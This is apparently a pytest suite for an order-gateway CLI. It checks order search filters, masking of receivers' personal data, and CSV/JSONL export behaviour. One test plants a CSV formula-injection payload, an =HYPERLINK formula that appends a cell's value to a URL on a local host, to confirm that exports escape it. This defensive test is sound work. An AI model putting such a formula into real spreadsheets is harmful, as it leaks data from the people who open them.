"""Searching and exporting orders as a person does, against what the simulator holds."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import stat
from datetime import UTC, datetime

import pytest
from sqlalchemy import text

from gateway.bootstrap import running
from gateway.storage.process_lock import ProcessLock

pytestmark = pytest.mark.slow  # a simulated shop for each test

SG = "shopee-301000101"


def listed(gateway, *options):
    return {each["order_id"] for each in gateway.done("orders", "list", "--limit", "1000", *options)["orders"]}


def exported(gateway, file, *options):
    done = gateway.done("orders", "export", file, *options)
    return done, file.read_bytes()


@pytest.fixture
def all_orders(pulled):
    """Return every stored order with its person, as `orders show` tells it."""
    rows = pulled.done("orders", "list", "--limit", "1000")["orders"]
    return [pulled.done("orders", "show", each["order_id"], "--personal") for each in rows[:15]]


def in_clear(all_orders):
    """Return an order whose receiver the platform shows."""
    people = [(each["order"], each["order"]["recipient"]) for each in all_orders]
    return next(order for order, person in people if person and not person["masked"] and person["phone"])


def test_each_filter_finds_what_the_orders_say(pulled, shopee, all_orders) -> None:
    every = listed(pulled)
    assert every == {each["id"] for each in shopee.orders()}
    one = all_orders[0]["order"]
    assert one["order_id"] in listed(pulled, "--number", one["order_id"])
    assert listed(pulled, "--number", one["order_id"] + "Z") == set()
    word = one["lines"][0]["title"].split()[0]
    assert one["order_id"] in listed(pulled, "--title", word.upper())
    assert listed(pulled, "--store", SG) == {each["id"] for each in shopee.orders(store="301000101")}
    other = next(each["store"] for each in pulled.done("stores", "list") if each["store"]["id"] != SG)
    both = listed(pulled, "--store", SG, "--store", other["id"])
    assert both == {each["id"] for shop in ("301000101", other["external_id"]) for each in shopee.orders(store=shop)}
    assert listed(pulled, "--platform", "shopee") == every
    assert listed(pulled, "--phase", "unpaid") == {each["id"] for each in shopee.orders(phase="unpaid")}
    waiting = listed(pulled, "--open-request")
    assert waiting.isdisjoint(listed(pulled, "--no-open-request"))
    assert waiting | listed(pulled, "--no-open-request") == every
    placed = one["placed_at"]
    assert one["order_id"] in listed(pulled, "--since", placed)
    assert one["order_id"] not in listed(pulled, "--until", placed)
    updated = one["updated_at"]
    assert one["order_id"] in listed(pulled, "--since", updated, "--time", "updated")
    assert listed(pulled, "--since", updated, "--until", updated, "--time", "updated") == set()


def test_a_receiver_is_found_or_said_to_be_hidden(pulled, all_orders) -> None:
    clear = in_clear(all_orders)
    person = clear["recipient"]
    assert clear["order_id"] in listed(pulled, "--receiver", person["name"].upper())
    tail = "".join(each for each in person["phone"] if each.isdigit())[-4:]
    assert clear["order_id"] in listed(pulled, "--phone-tail", tail, "--receiver", person["name"])
    assert clear["order_id"] in listed(pulled, "--phone", person["phone"])
    told = pulled("orders", "list", "--receiver", person["name"])
    assert told.code == 0
    assert person["name"] not in told.out + told.err

    async def hide() -> None:
        async with running(pulled.data) as context:
            statement = text("update order_personal set hidden = 'name', name_trace = null where store = :store")
            await context.database.write(lambda c: c.execute(statement, {"store": clear["store"]}))

    asyncio.run(hide())
    page = pulled("orders", "list", "--receiver", person["name"], "--json")
    assert clear["order_id"] not in {each["order_id"] for each in page.json["orders"]}
    assert sum(clear["store"] in each for each in page.json["notes"]) == 1
    assert "hides the receiver's name" in page.err


def test_the_nearest_deadline_comes_first(pulled) -> None:
    rows = pulled.done("orders", "list", "--sort", "deadline", "--limit", "1000")["orders"]
    due = [each["due_at"] for each in rows if each["due_at"]]
    assert due
    assert due == sorted(due)
    assert [bool(each["due_at"]) for each in rows] == sorted((bool(each["due_at"]) for each in rows), reverse=True)
    before = pulled.done("orders", "list", "--deadline-before", due[-1], "--limit", "1000")["orders"]
    assert {each["order_id"] for each in before} == {
        each["order_id"] for each in rows if each["due_at"] and each["due_at"] < due[-1]
    }
    page = pulled.done("orders", "list", "--sort", "deadline", "--limit", "3")
    assert pulled("orders", "list", "--after", page["next"]).code == 2


def test_what_cannot_be_searched_is_told(pulled) -> None:
    for options, code in (
        (["--store", "nowhere"], 1),
        (["--platform", "tiktok_shop"], 1),
        (["--phone-tail", "12"], 2),
        (["--title", "  "], 2),
        (["--since", "yesterday"], 2),
        (["--phase", "flying"], 2),
    ):
        assert pulled("orders", "list", *options).code == code, options


def test_an_export_holds_what_the_list_holds_and_names_nobody(pulled, all_orders, tmp_path) -> None:
    listed_ = pulled.done("orders", "list", "--limit", "1000")["orders"]
    done, body = exported(pulled, tmp_path / "orders.csv", "--format", "csv")
    assert done["orders"] == len(listed_)
    assert stat.S_IMODE((tmp_path / "orders.csv").stat().st_mode) == 0o600
    assert [each.name for each in tmp_path.iterdir() if each.name.startswith(".export")] == []
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [each["order"] for each in rows] == [each["order_id"] for each in listed_]
    assert {each["platform"] for each in rows} == {"shopee"}
    jsonl = exported(pulled, tmp_path / "orders.jsonl", "--format", "jsonl")[1]
    told = [json.loads(line) for line in jsonl.splitlines()]
    assert [each["order"] for each in told] == [each["order"] for each in rows]
    for one in all_orders:
        order = one["order"]
        line = next(each for each in told if each["order"] == order["order_id"])
        assert [each["title"] for each in line["lines"]] == [
            each["title"] for each in sorted(order["lines"], key=lambda each: each["line_id"])
        ]
        assert line["placed_at"] == order["placed_at"]
        assert "person" not in line
        name = (order["recipient"] or {}).get("name")
        assert not name or (name.encode() not in body and name.encode() not in jsonl)


def test_a_filtered_export_with_people(pulled, all_orders, tmp_path) -> None:
    file = tmp_path / "people.jsonl"
    ended = pulled("orders", "export", file, "--format", "jsonl", "--store", SG, "--personal")
    assert ended.code == 0
    assert "names people" in ended.err
    told = {each["order"]: each for each in map(json.loads, file.read_text().splitlines())}
    assert set(told) == listed(pulled, "--store", SG)
    for one in all_orders:
        if one["order"]["store"] == SG:
            assert told[one["order"]["order_id"]]["person"]["recipient"] == one["order"]["recipient"]
    _, body = exported(pulled, tmp_path / "people.csv", "--format", "csv", "--store", SG, "--personal")
    rows = {each["order"]: each for each in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}
    for order_id, line in told.items():
        recipient = line["person"]["recipient"] or {}
        assert rows[order_id]["recipient_name"].removeprefix("'") == recipient.get("name", "")


def test_an_export_overwrites_nothing_and_leaves_nothing_half_done(pulled, tmp_path) -> None:
    file = tmp_path / "orders.csv"
    file.write_text("mine")
    assert pulled("orders", "export", file, "--format", "csv").code == 4
    assert file.read_text() == "mine"
    assert pulled("orders", "export", tmp_path / "no" / "folder.csv", "--format", "csv").code == 4
    assert pulled("orders", "export", tmp_path / "new.csv", "--format", "csv", "--phone-tail", "1").code == 2
    assert sorted(each.name for each in tmp_path.iterdir() if each.name != "data") == ["orders.csv"]


def test_no_cell_of_a_table_is_a_formula(pulled, tmp_path) -> None:
    bad = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'

    async def spoil() -> None:
        async with running(pulled.data) as context:
            await context.database.write(
                lambda c: c.execute(text("update orders set raw_status = :bad, end_reason = :plus"), {
                    "bad": bad, "plus": " +1"})
            )  # fmt: skip

    asyncio.run(spoil())
    _, body = exported(pulled, tmp_path / "orders.csv", "--format", "csv")
    for row in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        assert row["platform_says"] == f"'{bad}"
        assert row["end_reason"] == "' +1"


def test_search_and_export_work_beside_a_running_gateway(pulled, tmp_path) -> None:
    lock = ProcessLock(pulled.data / "gateway.lock")
    lock.take()
    try:
        assert listed(pulled, "--title", "a")
        assert exported(pulled, tmp_path / "orders.jsonl", "--format", "jsonl")[0]["orders"] > 0
    finally:
        lock.release()


def test_what_an_earlier_version_stored_is_made_searchable(pulled, all_orders) -> None:
    async def forget() -> None:
        nothing = "name_trace = null, kana_trace = null, phone_trace = null, tail_trace = null, hidden = null"
        async with running(pulled.data) as context:
            await context.database.write(lambda c: c.execute(text(f"update order_personal set {nothing}")))

    asyncio.run(forget())
    one = in_clear(all_orders)
    name = one["recipient"]["name"]
    before = pulled("orders", "list", "--receiver", name)
    assert "gateway db reindex" in before.err
    found = {each["check"]: each for each in pulled("doctor", "--json").json}
    assert found["search"]["state"] == "warn"
    done = pulled.done("db", "reindex")
    assert done["traced"] >= len(all_orders)
    assert (done["unreadable"], done["trigrams"]) == (0, True)
    assert one["order_id"] in listed(pulled, "--receiver", name)
    assert pulled.done("db", "reindex")["traced"] == 0
    assert pulled.done("db", "reindex", "--all")["traced"] == done["traced"]
    assert one["order_id"] in listed(pulled, "--receiver", name)
    found = {each["check"]: each for each in pulled("doctor", "--json").json}
    assert found["search"]["state"] == "ok"


def test_times_without_a_zone_are_utc(pulled) -> None:
    day = datetime.now(UTC).date().isoformat()
    assert listed(pulled, "--until", day) == listed(pulled, "--until", f"{day}T00:00:00Z")
